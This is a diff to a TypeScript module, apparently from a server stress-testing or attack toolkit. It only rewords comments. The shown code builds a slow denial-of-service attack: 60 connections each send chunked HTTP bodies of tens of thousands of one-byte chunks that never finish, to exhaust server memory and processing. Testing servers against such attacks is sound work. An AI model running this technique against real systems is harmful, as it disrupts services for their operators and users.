@@ -1,4 +1,4 @@
-/** Bodies in one-byte chunks: what a server keeps for each chunk is many times the byte. */
+/** Bodies in one-byte chunks: a chunk may cost a server many times its byte. */
 import type { Attack, AttackTarget } from "./attack.js";
 import { ended, open, send } from "./sockets.js";
 
@@ -6,7 +6,7 @@ const connections = 60;
 /** One less than the largest form. */
 const formChunks = 65_535;
 
-/** Chunks in one write: enough that the server reads thousands at once. */
+/** Chunks per write: enough for the server to read thousands at once. */
 const chunksPerWrite = 8_192;
 
 /** `count` chunks of one byte each, without the last chunk. */
@@ -15,7 +15,9 @@ export function* oneByteChunks(count: number): Generator<string> {
     yield "1\r\nx\r\n".repeat(Math.min(left, chunksPerWrite));
 }
 
-/** Sends a request whose body is `chunks` chunks of one byte and never ends, and waits for the connection's end. */
+/**
+ * Sends a request with an endless body, of which it sends `chunks` one-byte chunks, and waits for the end of the connection.
+ */
 export async function sendTinyChunks(target: AttackTarget, head: string, chunks: number): Promise<void> {
   const socket = open(target);
   await send(socket, [`${head}\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n`]);
